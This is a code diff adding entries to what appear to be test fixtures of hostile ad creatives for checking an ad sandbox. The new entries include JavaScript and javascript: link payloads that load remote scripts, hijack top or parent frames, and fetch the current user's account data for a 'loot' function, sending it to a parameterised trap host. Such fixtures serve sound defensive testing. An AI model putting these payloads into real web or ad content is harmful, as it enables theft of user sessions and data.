@@ -130,6 +130,15 @@ export function hostileCreatives({ http, udp, domain }: Traps): readonly Hostile
       'own host, with cookies',
       `fetch('/api/v1/current-user',{credentials:'include'}).then(r=>r.text()).then(loot,()=>0);new Image().src='/api/v1/asset?limit=1'`,
     ),
+    [
+      'studio',
+      `<script src="${http}/Enabler.js"></script><script>try{Enabler.exit('x','${http}/studio');Enabler.loadScript('${http}/studio-script');Enabler.loadModule('${http}/studio-module');new Image().src=Enabler.getUrl('${http}/studio-url')}catch{}</script>`,
+    ],
+    own(
+      'click of a script link',
+      `const a=document.createElement('a');a.href="javascript:fetch('${http}/own-click')";document.body.append(a);a.click()`,
+    ),
+    own('detached click', `const a=document.createElement('a');a.href='${http}/detached';a.target='_top';a.click()`),
     // Ways to other pages.
     own('location', `location.href='${http}/location'`),
     own('location replaced', `location.replace('${http}/replace?'+document.title)`),
@@ -259,6 +268,21 @@ export function clickTraps({ http, domain }: Traps): readonly HostileCreative[] 
     link('click: ping', `ping="${http}/click-ping" href="${http}/click-pinged"`),
     link('click: download', `download=evil.exe href="data:application/octet-stream,evil"`),
     link('click: mail', `href="mailto:x@${domain}"`),
+    link(
+      'click: script',
+      `href="javascript:void(open('${http}/click-script')||top.open('${http}/click-script-open'))"`,
+    ),
+    link('click: script to the top', `target=_top href="javascript:void(top.location='${http}/click-script-top')"`),
+    link('click: script of the parent', `target=_parent href="javascript:loot(parent.document.title)"`),
+    link('click: script page', `href="javascript:'<img src=${http}/click-script-page>'"`),
+    link(
+      'click: script in a window',
+      `target=_blank href="javascript:void(fetch('${http}/click-script-fetch').then(loot))"`,
+    ),
+    link(
+      'click: script with cookies',
+      `href="javascript:void(fetch('/api/v1/current-user').then(r=>r.text()).then(loot))"`,
+    ),
     ['click: form', `<form target=_blank action="${http}/click-form"><button>x</button></form>`],
     ['click: svg', `<svg><a href="${http}/click-svg"><rect width=300 height=300 /></a></svg>`],
   ] as const
